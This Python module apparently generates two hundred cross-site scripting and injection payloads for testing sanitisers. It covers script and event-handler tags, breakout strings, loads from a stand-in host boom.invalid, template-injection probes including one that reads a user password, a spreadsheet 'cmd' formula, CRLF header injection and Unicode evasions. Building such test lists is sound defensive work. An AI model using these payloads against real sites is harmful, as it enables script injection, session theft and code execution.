"""Two hundred ways to make a page run what somebody typed, each harmless unless it runs: it would say `boom`.

Shapes are common knowledge of the trade; every combination is written out by this file.
"""

from itertools import product

RUN = "boom(1)"
TAGS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", "<script src=//boom.invalid/x.js></script>", f"<script/x>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<IMG SRC=x ONERROR='{RUN}'>", f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//", f"<svg><script>{RUN}</script></svg>", f"<svg><a href='javascript:{RUN}'><text>按</text></a></svg>",
    f"<math><mtext><img src=x onerror={RUN}></math>", f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<object data=javascript:{RUN}></object>", f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>按</a>", f"<a href=' javascript:{RUN}'>按</a>", f"<a href=java&#9;script:{RUN}>按</a>",
    f"<form action=javascript:{RUN}><button>按</button></form>", f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>动</marquee>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", "<style>@import '//boom.invalid/x.css'</style>",
    "<link rel=stylesheet href=//boom.invalid/x.css>", "<base href=//boom.invalid/>", "<meta http-equiv=refresh content='0;url=//boom.invalid'>",
    f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<div style='background:url(//boom.invalid/x)'>", f"<p style=animation-name:x onanimationstart={RUN}>", f"<keygen autofocus onfocus={RUN}>",
    "<div hx-get=//boom.invalid hx-trigger=load>", "<div hx-on:load='boom(1)' hx-on::after-request='boom(1)'>", "<div data-hx-get=/people hx-trigger=load>",
    f"<button hx-post=/duties/1/waiver hx-vals='js:{{x:{RUN}}}' hx-trigger=load>", "<i data-again=1 data-closes>", "<xmp><img src=x onerror=boom(1)></xmp>",
    f"<!--><script>{RUN}</script>-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>",
]
BREAKS = ['"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->", "`", "]]>", "</svg>", "\\"]
HANDLERS = [f" onmouseover={RUN} ", f" autofocus onfocus={RUN} x=", f" style=x onclick={RUN} ", f"<svg onload={RUN}>", f"<img src=x onerror={RUN}>"]
WORDS = [
    "{{ 7|add:7 }}", "{% debug %}", "{{ request.user.password }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", f"javascript:{RUN}",
    "data:text/html,<script>boom(1)</script>", "vbscript:boom", "&lt;script&gt;boom(1)&lt;/script&gt;", "&#60;script&#62;boom(1)",
    "%3Cscript%3Eboom(1)%3C/script%3E", "\\u003cscript\\u003eboom(1)", "\\x3cscript\\x3eboom(1)", "＜script＞boom(1)＜/script＞",
    "\u202e<tpircs>\u202c", "\u200b<\u200bscript>boom(1)", "<\u0130mg src=x onerror=boom(1)>", "\ufeff<script>boom(1)</script>",
    "<scr<script>ipt>boom(1)</scr</script>ipt>", "<<script>boom(1)//<</script>", "<a\u3000href=javascript:boom(1)>", "{\"a\":\"</script><script>boom(1)\"}",
    "=cmd|' /C calc'!A0", "@SUM(1)", "+boom", "-boom", "\t=1+1", "x\r\nSet-Cookie: boom=1", "BEGIN:VEVENT\r\nSUMMARY:boom", "//boom.invalid", "[x](javascript:boom(1))",
    "<bdo dir=rtl>", "<b>粗</b><u>", "</main></body></html>", "<table><tr><td>", "<plaintext>", "&", "<", "\">", "'\"<>&",
]


def payloads() -> list[str]:
    """Two hundred, each once."""
    broken = [start + end for start, end in product(BREAKS, HANDLERS)]
    every = list(dict.fromkeys([*TAGS, *WORDS, *broken, *(f"王{tag}" for tag in TAGS)]))
    return every[:200]
